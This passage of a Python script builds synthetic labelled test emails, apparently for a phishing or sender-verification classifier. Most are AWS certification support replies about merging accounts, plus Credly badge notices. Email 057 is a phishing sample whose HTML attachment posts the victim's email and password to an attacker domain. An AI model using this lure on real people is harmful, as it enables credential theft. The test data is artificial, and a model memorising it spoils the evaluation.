    emit(45, "ja-closed-no-reply-survey", kind="survey", case=C12, ids=[], sv=True, lang="ja",
         frm=addr(*AWS_FORM), to=P(SUZUKI, "iso-2022-jp"),
         subject="[CASE %s] ケースクローズのお知らせとアンケートのお願い" % C12, subj_charset="utf-8", date=d,
         body=body, new=new, rx=rx_jp("sonet", snd, d, SUZUKI[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 046 -- duplicate case noticed, continuing here ----------------------
    d = D("2024-09-20 02:10:45")
    snd = sender_amazon(d)
    new = """Hello Wei,

I noticed that you submitted the contact form again yesterday, which created a second case (case #%s) for the same request.

To keep everything in one place, I have closed that second case and linked it to this one. There is nothing you need to do - your request has not lost its place in the queue, and all further updates will come from this case (%s).

I am still waiting for your answer about which sign-in e-mail address you would like to keep. As soon as I have it, I can prepare the request for our Certification team.

Regards,
Anjali P.
AWS Training and Certification
""" % (C7B, C7)
    body = tpart(new, "plain", "utf-8", "quoted-printable")
    emit(46, "form-duplicate-case-closed-continue-here", kind="support_reply", case=C7, ids=[], sv=True, lang="en",
         frm=addr(*AWS_FORM), to=WEI[1], subject=FORM_SUBJ % C7, date=d, body=body, new=new,
         rx=rx_yahoo(snd, d, WEI[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 047 -- acknowledgement of the duplicate case --------------------------
    d = C7B_OPEN + dt.timedelta(seconds=7)
    snd = sender_amazon(d)
    new = """Hello Wei Zhang,

Thank you for contacting AWS Training and Certification Customer Support.

This is an automated message to confirm that we have received your request and created a case for it. A member of our support team will review your inquiry and respond within 24 hours.

Case ID: %s
Subject: [AWS Training and Certification Form Submission] - account-assistance

If you need to add information to this request, reply to this e-mail and keep the case ID in the subject line. To help us respond faster, please do not open a new case for the same request.

Regards,
AWS Training and Certification Customer Support
""" % C7B
    body = tpart(new, "plain", "utf-8", "base64")
    emit(47, "form-ack-second-case", kind="case_created", case=C7B, ids=[], sv=True, lang="en",
         frm=addr(*AWS_FORM), to=WEI[1],
         subject="[CASE %s] We have received your AWS Training and Certification request" % C7B, date=d,
         body=body, new=new, rx=rx_yahoo(snd, d, WEI[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 048 -- Japanese console: asks for profile screenshots ------------------
    d = D("2025-11-21 07:33:09")
    snd = sender_amazon(d)
    new = """田中 健一 様

お世話になっております。AWS サポートの中村でございます。

専門チームより、認定アカウントの統合に先立ち、ご本人様確認のための追加情報が必要との連絡がございました。

お手数ではございますが、AWS05560318 と AWS10274466 の両アカウントにそれぞれサインインいただき、プロフィール画面（受験者 ID、氏名、メールアドレスが表示されている画面）のスクリーンショットを、サポートセンターから本ケースに添付いただけますでしょうか。

なお、パスワードや身分証明書の画像は添付なさらないようお願いいたします。

ご確認いただけ次第、専門チームにて作業を進めてまいります。
何卒よろしくお願いいたします。

中村
Amazon Web Services
"""
    footer = """
======================
本ケースのすべてのやり取りは、以下のリンクからサポートセンターにサインインしてご確認いただけます:
https://console.aws.amazon.com/support/home#/case/?displayId=%s&language=ja

※このメールは送信専用アドレスから送信されています。上記リンクからサポートセンターでケースを更新してください。
""" % C4
    body = tpart(new + footer, "plain", "utf-8", "quoted-printable")
    emit(48, "ja-console-asks-profile-screenshots", kind="support_reply", case=C4, ids=["AWS05560318", "AWS10274466"],
         sv=True, lang="ja", frm=addr(*AWS_CONSOLE), to=TANAKA[1],
         subject="RE:[CASE %s] 認定アカウントの統合のお願い" % C4, subj_charset="utf-8", date=d, body=body,
         new=new + footer, rx=rx_jp("biglobe", snd, d, TANAKA[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 049 -- completion that also closes the case -------------------------
    d = D("2026-01-22 19:48:31")
    snd = sender_amazon(d)
    new = """Hello Rahul,

Thank you for your patience.

I'm happy to confirm that the merge has been completed. The certifications and exam history from AWS02238871 and AWS09901237 are now under AWS11650094, which is the account you asked us to keep. The other two accounts have been deactivated, and you should sign in with rahul.menon@outlook.com from now on.

As your request has been fulfilled, I'll go ahead and mark this case as resolved. If anything looks wrong when you sign in, simply reopen the case from the Support Center and we'll take another look.

Best regards,
Owen T.
Amazon Web Services
""" + console_footer(C3)
    full = new + console_links(C3)
    body = alternative(tpart(full, "plain", "utf-8", "quoted-printable"),
                       tpart(aws_html(full), "html", "utf-8", "quoted-printable"), "java", d)
    emit(49, "console-merge-done-case-resolved", kind="merge_completed", case=C3,
         ids=["AWS02238871", "AWS09901237", "AWS11650094"], sv=True, lang="en", frm=addr(*AWS_CONSOLE),
         to=RAHUL[1], subject="RE:[CASE %s] Merge three AWS Certification accounts into one" % C3, date=d,
         body=body, new=full, rx=rx_outlook(snd, d, RAHUL[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 050 -- non-native: request actioned (done, without the word) -------
    d = D("2023-03-27 10:20:55")
    snd = sender_amazon(d)
    new = """Dear Priya,

Greetings from AWS Training and Certification!

We are glad to inform you that your request has been actioned successfully. Profile AWS05129984 is now deactivated and all your certifications, exam history and benefits are reflecting under profile AWS11402276. Request you to login with priya.raghavan91@gmail.com going forward.

Your digital badges will be reflected in your Credly account within 2-3 business days.

Thanks & Regards,
Sandeep K
AWS Training and Certification Support
"""
    body = alternative(tpart(new, "plain", "utf-8", "quoted-printable"),
                       tpart(aws_html(new), "html", "utf-8", "quoted-printable"), "java", d)
    emit(50, "form-request-actioned-successfully", kind="merge_completed", case=C11,
         ids=["AWS05129984", "AWS11402276"], sv=True, lang="en", frm=addr(*AWS_FORM), to=PRIYA[1],
         subject=FORM_SUBJ % C11, date=d, body=body, new=new,
         rx=rx_gmail(snd, d, PRIYA[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))


# ===========================================================================
# Block 6: 051-060
# ===========================================================================
PHISH57 = "12907751842"


def credly_html(name, intro, badge, button, url, note=""):
    return """<!doctype html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f5f5f5;font-family:Helvetica,Arial,sans-serif">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="padding:24px 32px"><img src="https://images.credly.com/images/credly-logo-orange.png" width="110" alt="Credly"></td></tr>
<tr><td style="padding:0 32px 32px;font-size:15px;line-height:1.5;color:#333">
<p>Hi %s,</p>
<p>%s</p>
<p align="center"><img src="https://images.credly.com/size/340x340/images/%s/image.png" width="170" alt="%s"><br><b>%s</b></p>
%s
<p align="center"><a href="%s" style="background:#ff6b00;color:#fff;padding:12px 26px;text-decoration:none;border-radius:4px;font-weight:bold">%s</a></p>
<p style="font-size:12px;color:#999">You are receiving this e-mail because a badge was issued to this address.<br>
Credly, Inc. | 1250 Broadway, 24th Floor, New York, NY 10001 &middot; <a href="https://www.credly.com/notifications/unsubscribe">Manage notifications</a></p>
</td></tr></table></td></tr></table></body></html>
""" % (esc(name), esc(intro), uuid.UUID(int=R.getrandbits(128)), esc(badge), esc(badge),
       ("<p>%s</p>" % esc(note)) if note else "", url, esc(button))


def block6():
    # 051 -- Credly: badge sent after consolidation ------------------------
    d = D("2023-03-29 04:12:33")
    snd = sender_credly(d)
    url = "https://www.credly.com/earner/earned/badge/8e0f6b52-71d3-4c2e-a9d6-3f5b2c81e704/accept"
    new = """Hi Priya,

Amazon Web Services Training and Certification sent you a badge:

AWS Certified Solutions Architect - Associate

This badge was moved to your account after your AWS Certification profiles were combined.

Accept your badge: %s

The Credly Team
""" % url
    html = credly_html("Priya", "Amazon Web Services Training and Certification sent you a badge:",
                       "AWS Certified Solutions Architect - Associate", "Accept your badge", url,
                       "This badge was moved to your account after your AWS Certification profiles were combined.")
    body = alternative(tpart(new, "plain", "utf-8", "quoted-printable"), tpart(html, "html", "utf-8", "quoted-printable"),
                       "other", d)
    emit(51, "credly-badge-sent-after-consolidation", kind="credly_badge_issued", case=None, ids=[], sv=True,
         lang="en", frm=addr("Amazon Web Services Training and Certification via Credly", "admin@credly.com"),
         to=PRIYA[1], subject="Amazon Web Services Training and Certification sent you a badge", date=d,
         body=body, new=new, rx=rx_gmail(snd, d, PRIYA[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd),
         msgid="<%s@geopod-ismtpd-%d>" % (rb64(22).replace("/", "x"), R.randint(1, 40)))

    # 052 -- Credly: badge ready to accept (subject with en dash) ----------
    d = D("2022-09-13 22:37:05")
    snd = sender_credly(d)
    url = "https://www.credly.com/earner/earned/badge/c41a9d07-2e58-4f1b-8d0c-9b7e5a3f2c16/accept"
    new = """Hi Sofia,

Your badge from Amazon Web Services Training and Certification is ready to accept:

AWS Certified Developer \u2013 Associate

Accept your badge to add it to your profile and share it on LinkedIn and other networks.

Accept badge: %s

The Credly Team
""" % url
    html = credly_html("Sofia", "Your badge from Amazon Web Services Training and Certification is ready to accept:",
                       "AWS Certified Developer \u2013 Associate", "Accept badge", url,
                       "Accept your badge to add it to your profile and share it on LinkedIn and other networks.")
    body = alternative(tpart(new, "plain", "utf-8", "base64"), tpart(html, "html", "utf-8", "base64"), "other", d)
    emit(52, "credly-badge-ready-to-accept", kind="credly_badge_issued", case=None, ids=[], sv=True, lang="en",
         frm=addr("Amazon Web Services Training and Certification via Credly", "admin@credly.com"), to=SOFIA[1],
         subject="Your AWS Certified Developer \u2013 Associate badge is ready to accept", date=d, body=body,
         new=new, rx=rx_gmail(snd, d, SOFIA[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd),
         msgid="<%s@geopod-ismtpd-%d>" % (rb64(22).replace("/", "x"), R.randint(1, 40)))

    # 053 -- console status update: blocked by recertification --------------
    d = D("2026-01-16 12:07:44")
    snd = sender_amazon(d)
    new = """Hello Rahul,

Thank you for sending the details we asked for \u2014 they are all in order, including the name on AWS09901237.

A quick status update: our Certification team has started on your request, but AWS02238871 has a recertification that is still being processed, and that needs to settle before anything else can be changed on the account. The team expects this to clear early next week.

No action is needed from you. I will update this case again by Tuesday, January 20, or sooner if I hear back before then.

Best regards,
Owen T.
Amazon Web Services
""" + console_footer(C3)
    full = new + console_links(C3)
    body = tpart(full, "plain", "utf-8", "quoted-printable")
    emit(53, "console-status-recert-pending", kind="support_reply", case=C3, ids=["AWS02238871", "AWS09901237"],
         sv=True, lang="en", frm=addr(*AWS_CONSOLE), to=RAHUL[1],
         subject="RE: [CASE %s] Merge three AWS Certification accounts into one" % C3, date=d, body=body,
         new=full, rx=rx_outlook(snd, d, RAHUL[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 054 -- after the merge: Credly badges passed on ----------------------
    d = D("2025-06-04 11:52:20")
    snd = sender_amazon(d)
    new = """Hi Daniel,

Thanks for letting us know, and I'm glad all of your certifications are showing under AWS12093358.

About the Credly badges that are still sitting on your old Credly profile: badges do not always follow automatically, so I have asked our team to move them across to the Credly account registered to dan.hughes.dev@gmail.com. You should receive an e-mail from Credly with a link to accept them, usually within 3-5 business days.

I'll keep this case open until you confirm the badges have arrived.

Kind regards,
Camila R.
AWS Training and Certification Customer Support
"""
    quoted = """
On Tue, Jun 3, 2025 at 7:18 PM Daniel Hughes <dan.hughes.dev@gmail.com> wrote:
> Hi Camila,
>
> Got your e-mail that the merge is done - thanks! Everything shows up on
> aws12093358 now. One thing: my Credly badges are still on the old Credly
> profile (d.hughes@contoso-logistics.com). Can those be moved as well?
>
> Dan
"""
    body = alternative(tpart(new + quoted, "plain", "utf-8", "quoted-printable"),
                       tpart(aws_html(new, quoted), "html", "utf-8", "quoted-printable"), "java", d)
    emit(54, "form-credly-badges-passed-on", kind="support_reply", case=C1, ids=["AWS12093358"], sv=True,
         lang="en", frm=addr(*AWS_FORM), to=DAN[1], subject=FORM_SUBJ % C1, date=d, body=body, new=new,
         rx=rx_gmail(snd, d, DAN[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 055 -- hold: upcoming exam appointment --------------------------------
    d = D("2025-03-14 09:41:26")
    snd = sender_amazon(d)
    new = """Hello Tom,

While preparing your request I noticed that an exam appointment was booked two days ago with AWS03318842 (SAP-C02, 18 June 2025, OnVUE).

We are unable to make changes to an account that has an open appointment, so I have put your request on hold for now. You have two options:

a) Reschedule the appointment using AWS12880017 instead. Once the booking on AWS03318842 is cancelled, reply to this e-mail and we will continue right away.
b) Keep the appointment as it is. In that case we will wait until your result has been posted after 18 June and continue then.

Please let me know which option you prefer.

Kind regards,
Bartosz W.
AWS Training and Certification Customer Support
"""
    body = tpart(new, "plain", "utf-8", "quoted-printable")
    emit(55, "form-on-hold-open-appointment-options", kind="support_reply", case=C6,
         ids=["AWS03318842", "AWS12880017"], sv=True, lang="en", frm=addr(*AWS_FORM), to=P(TOM),
         subject=FORM_SUBJ % C6, date=d, body=body, new=new,
         rx=rx_outlook(snd, d, TOM[1], corporate=True) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 056 -- resolved, please rate us ---------------------------------------
    d = D("2024-09-27 17:20:09")
    snd = sender_amazon(d)
    new = """Hello Wei Zhang,

Your case %s has been resolved and is now closed.

How did we do? Please take a moment to rate the support you received from AWS Training and Certification. Your feedback goes directly to the team.

Rate your experience: https://aws-tc-survey.amazon.com/r?case=%s

If you still need help with this issue, reply to this e-mail within 14 days and the case will be reopened.

AWS Training and Certification Customer Support
""" % (C7, C7)
    body = alternative(tpart(new, "plain", "utf-8", "quoted-printable"),
                       tpart(aws_html(new), "html", "utf-8", "quoted-printable"), "java", d)
    emit(56, "form-case-closed-rate-us", kind="survey", case=C7, ids=[], sv=True, lang="en",
         frm=addr(*AWS_FORM), to=WEI[1], subject="[CASE %s] How did we do?" % C7, date=d, body=body, new=new,
         rx=rx_yahoo(snd, d, WEI[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 057 -- phishing: spoofed status update with HTML attachment -----------
    d = D("2023-03-24 01:09:57")
    snd = sender_generic(d, "amazon.com", "mail.kaizen-digital-srv.com", "91.219.236.174",
                         "info@kaizen-digital-srv.com", dkim_d="kaizen-digital-srv.com", spf="pass",
                         dmarc="fail", policy="QUARANTINE", sel="mail")
    new = """Dear Customer,

We are working on your AWS Certification account merge request (Case %s).

The current status of your request and the remaining steps are included in the attached status report. Please open the attachment and sign in with your AWS Certification e-mail and password so that we can finish processing the merge.

If we do not receive your details within 48 hours, your request will be closed.

Best regards,
AWS Training and Certification Customer Support
""" % PHISH57
    root = MIMEMultipart("mixed", boundary=boundary("other", d))
    del root["MIME-Version"]
    root.attach(tpart(new, "plain", "utf-8", "quoted-printable"))
    att = MIMEBase("text", "html", name="Merge_Status_Report.html")
    att.set_payload(('<html><body><form action="https://kaizen-digital-srv.com/aws/login.php" method="post">'
                     '<h3>AWS Certification - Merge status</h3><p>Status: pending verification</p>'
                     'E-mail <input name="e"> Password <input type="password" name="p"> <button>View status</button>'
                     '</form></body></html>').encode("utf-8"))
    encoders.encode_base64(att)
    del att["MIME-Version"]
    att.add_header("Content-Disposition", "attachment", filename="Merge_Status_Report.html")
    root.attach(att)
    emit(57, "phish-spoofed-status-report-attachment", kind="support_reply", case=PHISH57, ids=[], sv=False,
         lang="en", frm=addr(*AWS_FORM), to=PRIYA[1],
         subject="RE:[CASE %s] Your account merge request - status update" % PHISH57, date=d, body=root,
         new=new, rx=rx_gmail(snd, d, PRIYA[1]) + dkim_hdrs(snd, d),
         msgid="<%s@kaizen-digital-srv.com>" % rhex(20))

    # 058 -- 2019: which profile should remain? -----------------------------
    d = D("2019-04-11 16:03:48")
    snd = sender_amazon(d)
    new = """Hi Maria,

Thanks for your patience. I have an update and one question for you.

Both profiles are yours and we can bring them together. Before I send the request to the team, I'd like to double-check which one you want to keep. In your first message you mentioned AWS00988714, but that profile has no certifications on it yet, while aws00451290 holds your Solutions Architect - Associate and is the one linked to your Acclaim badge.

Either way works - nothing is lost - but the one you keep determines which e-mail address you will sign in with afterwards. Could you let me know which profile you would like to remain active?

Cheers,
Liam K.
AWS Training & Certification
"""
    body = tpart(new, "plain", "utf-8", "quoted-printable")
    emit(58, "2019-which-profile-should-remain", kind="support_reply", case=C9, ids=["AWS00451290", "AWS00988714"],
         sv=True, lang="en", frm=addr(*AWS_FORM), to=P(MARIA),
         subject="RE:[CASE %s] AWS Certification - duplicate profile" % C9, date=d, body=body, new=new,
         rx=rx_gmail(snd, d, MARIA[1], arc=False) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 059 -- conflicting info, which to keep (no Authentication-Results) ------
    d = D("2024-06-04 14:27:03")
    snd = sender_amazon(d)
    new = """Hello Kevin,

Thank you for the quick reply.

I want to make sure we get this right, because the two messages we have received point in different directions. In the form you asked us to keep AWS-02775530, but in your reply below you wrote that AWS 08064112 should be the main account.

Could you please tell me which of the two accounts should stay active afterwards? Please also send the e-mail address you use to sign in to each of them.

Kind regards,
Niamh D.
AWS Training and Certification Customer Support
"""
    quoted = """
-----Original Message-----
From: Kevin O'Brien <kevin@hughes-obrien.ie>
Sent: Tuesday, June 4, 2024 12:55
To: Amazon Web Services <aws-cs-trainingcertification-form@amazon.com>
Subject: RE:[CASE %s] [AWS Training and Certification Form Submission] - account-assistance

Hi Niamh,
Yes, those are both mine. Please make 08064112 the main one, it has my newer certs.
Thanks,
Kevin

-----Original Message-----
From: Amazon Web Services <aws-cs-trainingcertification-form@amazon.com>
Sent: Tuesday, June 4, 2024 09:12
To: kevin@hughes-obrien.ie
Subject: RE:[CASE %s] [AWS Training and Certification Form Submission] - account-assistance

Hello Kevin,
I found two profiles under your name, AWS02775530 and AWS08064112. Can you confirm both belong to you?
""" % (C10, C10)
    body = alternative(tpart(new + quoted, "plain", "utf-8", "quoted-printable"),
                       tpart(aws_html(new, quoted), "html", "utf-8", "quoted-printable"), "java", d)
    emit(59, "form-conflicting-direction-which-to-keep-noauth", kind="support_reply", case=C10,
         ids=["AWS02775530", "AWS08064112"], sv=None, lang="en", frm=addr(*AWS_FORM), to=P(KEVIN),
         subject=FORM_SUBJ % C10, date=d, body=body, new=new, rx=rx_none(snd, d, KEVIN[1]) + dkim_hdrs(snd, d),
         extra=with_trailer(snd))

    # 060 -- AWS Training newsletter (genuine amazon.com, unrelated) --------
    d = D("2023-04-04 17:00:12")
    snd = sender_amazon(d)
    new = """AWS Training and Certification | April 2023

New this month on AWS Skill Builder

- AWS Cloud Quest: Data Analytics role is now available
- Exam prep: new official practice question sets for SAA-C03 and DVA-C02
- AWS Certified Data Engineer - Associate beta registration opens later this year

Get certified, get recognized
Did you know you can share your AWS Certification digital badges with your network? Find your badges in your Credly account.

Explore Skill Builder: https://skillbuilder.aws

You are receiving this e-mail because you subscribed to AWS Training and Certification updates.
Unsubscribe: https://pages.awscloud.com/communication-preferences
Amazon Web Services, Inc., 410 Terry Ave. North, Seattle, WA 98109-5210
"""
    body = alternative(tpart(new, "plain", "utf-8", "quoted-printable"),
                       tpart(aws_html(new), "html", "utf-8", "quoted-printable"), "other", d)
    emit(60, "aws-tc-newsletter-april", kind="unrelated", case=None, ids=[], sv=True, lang="en",
         frm=addr("AWS Training and Certification", "aws-marketing-email-replies@amazon.com"), to=PRIYA[1],
         subject="New on AWS Skill Builder: Cloud Quest Data Analytics and fresh exam prep", date=d, body=body,
         new=new, rx=rx_gmail(snd, d, PRIYA[1]) + dkim_hdrs(snd, d),
         extra=with_trailer(snd) + [("List-Unsubscribe", "<https://pages.awscloud.com/communication-preferences>")])


# ===========================================================================
BLOCKS = [block1, block2, block3, block4, block5, block6]

if __name__ == "__main__":
    for b in BLOCKS:
        b()
    with open(os.path.join(OUT, "labels.json"), "w", encoding="utf-8") as f:
        json.dump(dict(sorted(LABELS.items())), f, ensure_ascii=False, indent=1)
    print("wrote %d mails" % len(LABELS))
